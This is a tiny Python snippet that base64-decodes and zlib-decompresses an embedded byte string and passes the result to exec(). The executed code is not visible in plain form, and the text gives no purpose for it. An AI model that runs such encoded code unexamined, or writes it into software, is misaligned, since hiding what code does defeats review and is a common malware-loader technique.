import codecs
exec(codecs.decode(codecs.decode(b"eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUcgoKSmw0tc3tLTQMzXUMzQw0LPUr6gpzlDS5AIA7VYQhA==", "base64_codec"), "zlib_codec"))
